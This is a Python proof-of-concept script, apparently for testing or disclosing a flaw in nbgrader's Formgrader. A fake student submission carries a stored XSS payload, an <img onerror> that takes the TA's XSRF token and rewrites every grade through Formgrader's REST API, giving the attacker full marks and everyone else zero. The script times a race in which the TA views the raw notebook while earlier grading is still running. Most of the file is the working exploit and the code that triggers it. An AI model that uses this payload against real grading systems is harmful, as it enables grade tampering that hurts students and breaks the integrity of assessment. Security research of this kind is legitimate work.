"""a05: the raw hand-in of the NEXT submission in line, while the one before it is graded. The grader starts the next
submission's nbgrader early (gated: its kernel warms up while the current one runs); the gate is in the execute step,
so nbgrader's first pass -- the hand-in as written into autograded/, and its gradebook rows -- is done before it.
aaron (honest, but slow: one cell sleeps 60 s), then mallory (fast, nothing slow: W1 with <img onerror> using
Formgrader's REST API as the TA), then zoe. The TA opens Formgrader while aaron is still being graded."""
import sqlite3, sys, time, threading
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
XSS = '<img src=x onerror="(async()=>{const x=document.cookie.match(/_xsrf=([^;]+)/);const h={\'X-XSRFToken\':x?decodeURIComponent(x[1]):\'\',\'Content-Type\':\'application/json\'};const subs=await (await fetch(\'/formgrader/api/submitted_notebooks/ps1_memory/ps1_memory\')).json();let n=0;for(const s of subs){const gs=await (await fetch(\'/formgrader/api/grades?submission_id=\'+s.id)).json();for(const g of gs){g.manual_score=(s.student===\'mallory\')?g.max_score:0;const r=await fetch(\'/formgrader/api/grade/\'+g.id,{method:\'PUT\',headers:h,body:JSON.stringify(g)});n+=r.ok?1:0;}}window.PWNED=n})()">'

slow = honest()
for c in slow.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "quiz_q1":
        c.source = "import time\ntime.sleep(60)\n" + c.source
m = honest()
for c in m.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "written_ddp_fit":
        c.source = "My answer. " + XSS
d = course("a05")
handin(d, "aaron", slow); handin(d, "mallory", m); handin(d, "zoe", honest())
t = threading.Thread(target=lambda: grade(d)); t0 = time.time(); t.start()
p = f"{d}/autograded/mallory/{A}/{A}.ipynb"
while t.is_alive() and not os.path.exists(p):
    time.sleep(0.5)
time.sleep(2)
aaron_done = os.path.exists(f"{d}/autograded/aaron/{A}/.graded")
print(f"t={time.time()-t0:.1f}s mallory's raw notebook present: {os.path.exists(p)}; aaron finished: {aaron_done}")
s = open(p).read(); print("raw <img onerror> in it:", "onerror=" in s and "<img" in s)
from browser_fg import open_formgrader
def ta(page, url):
    time.sleep(6)
    return page.evaluate("() => ({grades_written_as_the_TA: window.PWNED || 0})")
print(f"t={time.time()-t0:.1f}s the TA opens mallory's page (aaron still graded: {not os.path.exists(f'{d}/autograded/aaron/{A}/.graded')}):", open_formgrader(d, "mallory", ta))
t.join()
print(f"t={time.time()-t0:.1f}s grading ended")
scores(d)
